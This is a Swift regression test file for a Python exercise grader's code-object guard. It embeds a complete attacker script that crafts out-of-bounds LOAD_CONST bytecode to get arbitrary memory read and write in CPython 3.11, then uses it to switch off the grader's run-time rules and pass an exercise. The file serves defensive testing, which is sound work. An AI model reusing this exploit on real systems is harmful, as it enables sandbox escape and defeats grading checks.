import Foundation
import TestSupport
import Testing

/// Code objects a candidate makes from values or bytes (code_guard.c). The
/// round-four attacker (attack 7) got arbitrary memory read and write from
/// plain Python: `code.replace(co_code=..., co_consts=...)` made a function
/// whose LOAD_CONST index ran past its constants (CPython 3.11 does not
/// check) into a fake bytearray over all memory, with which it zeroed
/// `pg_rt.active` (every run-time rule off) and passed reverse 20/20 with
/// `reversed`. A job child now refuses every code object made from values or
/// bytes; the fixtures `attack_code_*.py` hold each way in, and
/// `duplicates_stdlib_modules_imported.py` that the standard library's own
/// .pyc files still load.
@Suite("Attacks: code objects made from bytes")
struct CodeGuardAttackTests: VisibleOutputSupport {
    /// round4/bytecode_rw_rules_off.py.in, as the attacker wrote it: the
    /// offsets of `pg_getattr_hook` and `pg_rt` in the binary under attack
    /// go in for @HOOK@ and @RT@ (an attacker takes them from a build of
    /// the same source).
    static let exploit = #"""
        # Round 4: arbitrary memory read/write from plain Python 3.11, no ctypes, no
        # native module, no new executable memory: a code object whose LOAD_CONST
        # index runs past its co_consts tuple into a bytes object holding a pointer
        # to a fake bytearray that spans the address space. With it the candidate
        # switches the run-time rules off (pg_rt.active = NULL) and calls reversed()
        # by a name made at run time: reverse passes 20/20.
        # Offsets: of the pygrade binary under attack (round4/make_bytecode_rw.sh
        # reads them with nm; an attacker builds the same source).
        import builtins
        import types

        PG_GETATTR_HOOK = @HOOK@
        PG_RT = @RT@


        def _loader(consts, index):
            b = index.to_bytes(4, "big")
            code = bytes([151, 0, 144, b[0], 144, b[1], 144, b[2], 100, b[3], 83, 0])
            co = (lambda: None).__code__.replace(co_code=code, co_consts=consts, co_stacksize=2)
            return types.FunctionType(co, {})


        _keep = []


        def _memory():
            fake = (
                (1 << 40).to_bytes(8, "little") + id(bytearray).to_bytes(8, "little")
                + (2**63 - 1).to_bytes(8, "little") + (2**63 - 1).to_bytes(8, "little") + bytes(40)
            )
            fake_addr = id(fake) + 32
            conts = [(None, i) for i in range(2000)]
            holders = sorted((fake_addr.to_bytes(8, "little") + i.to_bytes(8, "little") for i in range(2000)), key=id)
            for consts in conts:
                base = id(consts) + 24
                for holder in holders:
                    slot = id(holder) + 32
                    if slot > base and (slot - base) % 8 == 0 and (slot - base) // 8 < 2**31:
                        mem = _loader(consts, (slot - base) // 8)()
                        _keep.append((fake, holder, consts, conts, holders, mem))
                        return mem
            raise RuntimeError("no layout")


        def _rules_off():
            mem = _memory()
            u64 = lambda a: int.from_bytes(mem[a:a + 8], "little")
            ml = u64(id(getattr) + 16)          # PyCFunctionObject.m_ml
            meth = u64(ml + 8)                  # PyMethodDef.ml_meth: the hook, in pygrade's text
            rt = meth - PG_GETATTR_HOOK + PG_RT
            if u64(rt) != 0:                    # pg_rt.active: the plan
                mem[rt:rt + 8] = bytes(8)


        _rules_off()


        def reverse_string(s):
            return "".join(getattr(builtins, "rev" + "ersed")(s))
        """#

    /// The address of `symbol` in the binary under test, as `nm` prints it.
    static func offset(of symbol: String) throws -> String {
        let nm = Process()
        nm.executableURL = URL(fileURLWithPath: "/usr/bin/nm")
        nm.arguments = [PygradeBinary.executable.path]
        let out = try CapturedRun.run(nm, timeout: 120, what: "nm pygrade")
        let text = String(decoding: out.stdout, as: UTF8.self)
        let line = try #require(
            text.split(separator: "\n").first { $0.split(separator: " ").last.map(String.init) == symbol }, "nm: no \(symbol)")
        return "0x" + String(try #require(line.split(separator: " ").first))
    }

    /// The exploit with this binary's offsets; `rulesOff: false` leaves the
    /// memory write out (the control).
    static func exploitSource(rulesOff: Bool = true) throws -> String {
        var source = exploit.replacingOccurrences(of: "@HOOK@", with: try offset(of: "pg_getattr_hook"))
            .replacingOccurrences(of: "@RT@", with: try offset(of: "pg_rt"))
        if !rulesOff { source = source.replacingOccurrences(of: "\n_rules_off()\n", with: "\n") }
        return source
    }

    static func gradeReverse(_ source: String) throws -> [String: Any] {
        let file = FileManager.default.temporaryDirectory.appendingPathComponent("pygrade-codeguard-\(UUID().uuidString).py")
        try Data(source.utf8).write(to: file)
        defer { try? FileManager.default.removeItem(at: file) }
        let run = try PygradeBinary.run(["grade", file.path, "--exercise", "reverse", "--format", "json"])
        return try #require((try run.json()["exercises"] as? [[String: Any]])?.first, "\(run.stdout)\(run.stderr)")
    }

    /// Broke on main at a2c0043 (passed, 20/20, no rule hit). Now
    /// code.replace() raises before any crafted code exists: the load fails,
    /// every test with it.
    @Test func theCraftedLoadConstCannotSwitchTheRulesOff() throws {
        let exercise = try Self.gradeReverse(try Self.exploitSource())
        #expect(exercise["status"] as? String == "runtime_error", "\(exercise["status"] ?? "") \(exercise["message"] ?? "")")
        #expect(exercise["score"] as? Double == 0)
        let message = exercise["message"] as? String ?? ""
        #expect(message.contains("while loading the submission"), "\(message)")
        #expect(message.contains("code objects cannot be made in a job"), "\(message)")
    }

    /// The control: without the memory write, the same file's getattr of
    /// "rev" + "ersed" is a run-time rule hit. What the exploit escaped was
    /// the rule, through memory.
    @Test func withoutTheMemoryWriteTheSameFileBreaksTheRule() throws {
        let exercise = try Self.gradeReverse(try Self.exploitSource(rulesOff: false))
        #expect(exercise["status"] as? String == "rule_violation", "\(exercise["status"] ?? "") \(exercise["message"] ?? "")")
        #expect(exercise["message"] as? String == "at run time: reversed() and __reversed__ are not allowed")
    }

    /// The visible-only run's job children refuse too: what a visible test
    /// prints there is the refusal, for each way in.
    @Test func theVisibleOnlyRunRefusesCodeObjectsToo() throws {
        let setup = try Setup(
            candidate: """
                import marshal
                import types


                def shout(s):
                    for make in (
                        lambda: types.CodeType(0, 0, 0, 0, 1, 3, bytes([151, 0, 100, 5, 83, 0]), (None,), (), (), "x", "x", "x", 1, b"", b""),
                        lambda: shout.__code__.replace(co_consts=(None, 1)),
                        lambda: marshal.loads(marshal.dumps(shout.__code__)),
                    ):
                        try:
                            make()
                            print("made")
                        except Exception as e:
                            print(type(e).__name__, e)
                    return s.upper()
                """)
        defer { setup.remove() }
        let run = try setup.grade("json")
        let visible = try #require(try Self.tests(run).first { $0["name"] as? String == "visible-word" })
        let output = visible["output"] as? String ?? ""
        let refusal = "code objects cannot be made in a job: types.CodeType, code.replace and code from marshal are refused"
        #expect(output == "RuntimeError \(refusal)\nRuntimeError \(refusal)\nValueError \(refusal)\n", "\(output)")
        #expect(visible["status"] as? String == "passed")
    }
}
